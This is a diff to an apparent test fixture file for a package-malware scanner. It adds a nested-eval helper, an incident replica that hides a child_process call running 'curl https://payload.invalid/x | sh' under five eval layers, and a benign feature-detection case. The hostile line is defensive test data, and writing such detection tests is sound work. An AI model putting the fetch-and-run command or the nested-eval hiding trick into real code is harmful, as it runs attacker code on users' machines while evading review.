@@ -8,6 +8,7 @@ reads, how it hides, where it sends), which is what the rules look at.
 from __future__ import annotations
 
 import base64
+import json
 from dataclasses import dataclass, field
 from typing import Any
 
@@ -34,6 +35,14 @@ def hexed(text: str) -> str:
 ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
 PE = b"MZ" + b"\x00" * 58 + b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00" + b"\x00" * 32
 PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
+
+
+def nested_eval(code: str, layers: int) -> str:
+    """`code` inside `layers` evals of string literals: eval("eval(\"…\")")."""
+    for _ in range(layers):
+        code = f"eval({json.dumps(code)});"
+    return code
+
 
 INCIDENTS: list[Replica] = [
     Replica(
@@ -461,6 +470,14 @@ INCIDENTS: list[Replica] = [
         note="the 2021 'invisible backdoor': a Hangul filler as a destructured name smuggles a command",
     ),
     Replica(
+        "eval-layers-past-the-budget",
+        {"index.js": nested_eval("require('child_process').exec('curl https://payload.invalid/x | sh');", 5)},
+        "review",
+        frozenset({"analysis-incomplete"}),
+        note="string-literal evals nested deeper than the analysis follows: the innermost layer is never "
+        "analysed, so the cut itself sends the package to a human",
+    ),
+    Replica(
         "disguised-executable",
         {"index.js": "module.exports = require('path').join(__dirname, 'logo.png');\n", "logo.png": PE},
         "review",
@@ -766,5 +783,15 @@ BENIGN: list[Replica] = [
         "review",
         frozenset({"publish-with-token"}),
         note="release tooling legitimately publishes with tokens; outside install time a human confirms it",
+    ),
+    Replica(
+        "feature-detection-eval",
+        {
+            "index.js": nested_eval("module.exports = typeof Symbol === 'function';", 2)
+            + "\nmodule.exports.version = '1.0.0';\n"
+        },
+        "allow",
+        frozenset(),
+        note="old feature-detection code evals a literal, even nested: analysed within the budget, no cut",
     ),
 ]
